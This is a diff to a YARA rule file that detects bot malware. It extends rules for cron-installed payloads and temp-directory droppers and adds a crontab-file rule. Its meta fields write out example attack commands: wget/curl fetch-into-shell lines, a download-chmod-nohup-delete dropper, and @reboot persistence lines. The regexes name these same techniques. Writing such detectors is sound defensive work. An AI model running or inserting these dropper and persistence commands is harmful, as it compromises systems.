@@ -1248,7 +1248,7 @@ rule bot_cron_install_payload : bot
         $sc3 = "* * *" ascii
         $sc4 = /\*\/[0-9]{1,2} [0-9*]/
         // ... running a fetch into a shell, something in a temp dir or a dot path
-        $pl = /\/tmp\/|\/var\/tmp\/|\/dev\/shm\b|\/\.[\w-]{1,30}(\s|["';&>)|]|$)|\b(curl|wget|fetch|lwp-download|GET)\s[^\n|]{1,200}\|\s{0,4}((ba|da|z)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3})\b/
+        $pl = /\/tmp\/|\/var\/tmp\/|\/dev\/shm\b|\/\.[\w-]{1,30}(\s|["';&>)|]|$)|\b(curl|wget|fetch|lwp-download|GET)\s[^\n|]{1,200}\|\s{0,4}((ba|da|z)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3})\b|\b(curl|wget|fetch|lwp-download)\s[^\n]{1,200}(;|&&)\s{0,4}((ba|da)?sh\s|perl\s|python[0-9.]{0,4}\s|php\s|chmod\s|\.\/|~\/|\$HOME\/)|\bfile_get_contents\s{0,2}\(\s{0,2}\\?['"](https?|ftp):/
     condition:
         filesize < 1MB and not hs_doc_file and
         for any of ($sc*) : ( for any i in (1..#) : (
@@ -1270,7 +1270,7 @@ rule bot_dropper_tmp_exec : bot
         technique = "F=/tmp/.x; wget -q $U -O $F; chmod +x $F; nohup $F &; rm -f $F | file_put_contents('/tmp/x', file_get_contents(URL)); chmod(..., 0755); exec('... &') | urlopen + os.chmod + Popen"
         seen = "none"
     strings:
-        $f = /\b(wget|curl|fetch|tftp|ftpget|lwp-download)\s{1,4}[-"'$\w]|\b(file_get_contents|copy|fopen|curl_init)\s{0,2}\(\s{0,2}(['"](https?|ftp):\/\/|\$\w{1,30}\s{0,2}[,)])|\b(urlopen|urlretrieve|getstore|mirror)\s{0,2}\(|\brequests\.get\s{0,2}\(|:content_file\b|\bhttps?\.get\s{0,2}\(\s{0,2}['"`]/
+        $f = /\b(wget|curl|fetch|tftp|ftpget|lwp-download)\s{1,4}[-"'$\w]|\b(file_get_contents|copy|fopen|curl_init)\s{0,2}\(\s{0,2}(['"](https?|ftp):\/\/|\$\w{1,30}\s{0,2}[,)])|\b(urlopen|urlretrieve|getstore|mirror)\s{0,2}\(|\brequests\.get\s{0,2}\(|:content_file\b|\bhttps?\.get\s{0,2}\(\s{0,2}['"`]|\bLWP::UserAgent\b|\bHTTP::Tiny\b|\bLWP::Simple\b/
         $tm = /\/(tmp|var\/tmp|dev\/shm)\b|\bsys_get_temp_dir\s{0,2}\(|\btempfile\.|\bmktemp\b/
         // shell chmod +x / 755, PHP chmod($f, 0755), Perl chmod 0755, $f, os.chmod(p, 0o755 | S_IEXEC)
         $cx = /\bchmod\s{1,4}(-R\s{1,4})?(\+x|[ugoa]{1,3}\+[rw]{0,2}x|0?[0-7]?[1357][0-7]{2})\b|\bchmod\s{0,2}\(\s{0,2}[^,\n]{1,80},\s{0,2}0?[0-7]?[1357][0-7]{2}\s{0,2}\)|\bos\.chmod\s{0,2}\([^\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|\b(493|511|365)\b)|\bchmodSync\s{0,2}\([^\n]{1,80}(0o[0-7]?[1357][0-7]{2}\b|\b(493|511)\b)/
@@ -1281,15 +1281,22 @@ rule bot_dropper_tmp_exec : bot
         $rn4 = " &\"" ascii
         // or simply run: the saved path at the start of a line, or a command
         // function on a variable (PHP, Python)
-        $rn5 = /\n\s{0,8}(\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)[\w.\/-]{1,80}/
+        $rn5 = /(\n|;|&&)\s{0,8}(nohup\s{1,4}|setsid\s{1,4}|exec\s{1,4})?(\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)[\w.\/-]{1,80}/
+        // the variable just made executable, run on the next command: chmod +x "$F"; "$F"
+        $rn7 = /\bchmod\s{1,4}[^\n;&|]{1,40}(\n|;|&&)\s{0,8}(nohup\s{1,4}|setsid\s{1,4}|exec\s{1,4})?["']?\$\{?\w{1,30}\}?["']?\s{0,4}(\n|;|&|>|$)/
+        // or an interpreter started on the saved file (no exec bit needed), detached or removed after
+        $ip = /\b(perl|python[0-9.]{0,4}|php[0-9.]{0,3}|ruby|(ba|da)?sh)\s{1,4}["']?(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\$\{?\w{1,30})/
+        $rm = /\brm\s{1,4}-[rf]{1,2}\s|\bunlink\s{0,2}\(|\bos\.(remove|unlink)\s{0,2}\(/
         $rn6 = /\b(system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s{0,2}\(\s{0,2}(\$\w{1,30}\s{0,2}[),.]|['"](\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/))|\bsubprocess\.(call|run|check_call|check_output)\s{0,2}\(\s{0,2}\[?\s{0,2}([a-zA-Z_]|['"](\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/))|\bos\.(system|exec\w{1,3}|spawn\w{1,3})\s{0,2}\(\s{0,2}[a-zA-Z_]/
         // a verified download is a deployment step
         $ck = /\b(sha(1|224|256|384|512)sum|shasum|md5sum|b2sum|hashlib|hash_file|Digest::SHA|minisign|signify)\b|\bgpg\s{1,4}(--verify|--batch\s{1,4}--verify)\b|\bopenssl\s{1,4}dgst\b|\bcosign\s{1,4}verify\b/
     condition:
         filesize < 1MB and not hs_doc_file and not $ck and
         for any i in (1..#f) : (
-            $tm in (@f[i] - 300 .. @f[i] + 400) and $cx in (@f[i] .. @f[i] + 800) and
-            for any of ($rn*) : ( $ in (@f[i] .. @f[i] + 1200) ) )
+            $tm in (@f[i] - 300 .. @f[i] + 400) and (
+                ($cx in (@f[i] .. @f[i] + 800) and for any of ($rn*) : ( $ in (@f[i] .. @f[i] + 1200) ))
+                or ($ip in (@f[i] .. @f[i] + 800) and (for any of ($rn1, $rn2, $rn3, $rn4) : ( $ in (@f[i] .. @f[i] + 1200) ) or
+                    $rm in (@f[i] .. @f[i] + 1200))) ) )
 }
 
 /* A coin miner started from PHP, Python or Perl code (bot_miner_launcher
@@ -1315,4 +1322,26 @@ rule bot_miner_launch_code : bot
         $x2 = /\bsubprocess\.\w{1,16}\s{0,2}\(|\bos\.(system|popen|spawn\w{0,3}|exec\w{0,3})\s{0,2}\(/
     condition:
         filesize < 1MB and not hs_doc_file and any of ($p*) and any of ($w*) and any of ($x*)
+}
+
+/* A crontab itself (a file of schedule lines, dropped for `crontab FILE` or
+ * into a spool) whose line runs a fetch into a shell, a temp-dir or a dot
+ * path: the same payload test as bot_cron_install_payload, for a file that
+ * starts with a schedule line (after comments and variable lines). */
+rule bot_crontab_file_payload : bot
+{
+    meta:
+        description = "Crontab file whose schedule line runs a fetched, temp-dir or hidden program"
+        severity = "high"
+        technique = "*/5 * * * * curl -fsSL http://H/s | sh; @reboot /tmp/.x; * * * * * cd /dev/shm && ./.k, as a file"
+        seen = "none"
+    strings:
+        // a schedule at the start of a line: five fields or an @keyword
+        $ln = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily|weekly|monthly|midnight)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t]{1,8}[^\n]{0,200}(\/tmp\/|\/var\/tmp\/|\/dev\/shm\b|\/\.[\w-]{1,30}([ \t]|["';&>)|]|\n|$)|\b(curl|wget|fetch)\s[^\n|]{1,200}\|\s{0,4}((ba|da|z)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3})\b)/
+        $tag = "<?" ascii
+    condition:
+        filesize < 16KB and not hs_doc_file and not hs_shebang and not $tag and
+        not hs_lang_shell and not hs_lang_perl and not hs_lang_python and $ln and
+        // the file starts with a comment or a schedule ('#', '@', '*', a digit)
+        (uint8(0) == 0x23 or uint8(0) == 0x40 or uint8(0) == 0x2a or (uint8(0) >= 0x30 and uint8(0) <= 0x39))
 }
